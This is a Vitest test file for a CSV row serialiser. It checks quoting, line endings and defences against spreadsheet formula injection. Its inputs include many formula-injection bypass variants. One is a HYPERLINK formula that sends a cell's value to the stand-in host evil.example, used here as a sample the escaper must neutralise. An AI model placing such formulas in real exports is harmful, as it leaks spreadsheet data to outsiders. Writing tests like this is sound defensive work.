import { describe, expect, test } from 'vitest'
import { csvRow } from './csv.ts'

describe('a row of comma-separated values', () => {
  test('ends like a line and keeps numbers and gaps', () => {
    expect(csvRow(['a', 1, -2.5, null, ''])).toBe('a,1,-2.5,,\r\n')
  })

  test.each([
    ['a,b', '"a,b"'],
    ['say "hi"', '"say ""hi"""'],
    ['two\nlines', '"two\nlines"'],
    ['two\r\nlines', '"two\r\nlines"'],
    ['çãé 😀 مريم', 'çãé 😀 مريم'],
    ['a;b', 'a;b'],
  ])('holds %j as %j', (text, cell) => {
    expect(csvRow([text])).toBe(`${cell}\r\n`)
  })

  test.each([
    ['=1+1', "'=1+1"],
    ['+351 912 345 678', "'+351 912 345 678"],
    ['-1', "'-1"],
    ['@SUM(A1)', "'@SUM(A1)"],
    ['  =1', "'  =1"],
    ['\u00a0=1', "'\u00a0=1"],
    ['\u200e=1', "'\u200e=1"],
    ['"=1', `"'""=1"`],
    ["'=1", "''=1"],
    [' " =1', `"' "" =1"`],
    ['＝1', "'＝1"],
    ['＋1', "'＋1"],
    ['－1', "'－1"],
    ['＠SUM', "'＠SUM"],
    ['\tx', "'\tx"],
    ['\rx', `"'\rx"`],
    ['a\n=1', `"a\n'=1"`],
    ['a;=1', "a;'=1"],
    ['a;"=1', `"a;'""=1"`],
    ['a\t=1', "a\t'=1"],
    [
      `=HYPERLINK("https://evil.example?"&A1,"Click")`,
      `"'=HYPERLINK(""https://evil.example?""&A1,""Click"")"`,
    ],
  ])('does not let %j be calculated', (text, cell) => {
    expect(csvRow([text])).toBe(`${cell}\r\n`)
  })

  test.each(['a=b', 'a + b', 'x - y', 'ana@example.com', '10:30', ''])('leaves %j as it is', (text) => {
    expect(csvRow([text])).toBe(`${text}\r\n`)
  })
})
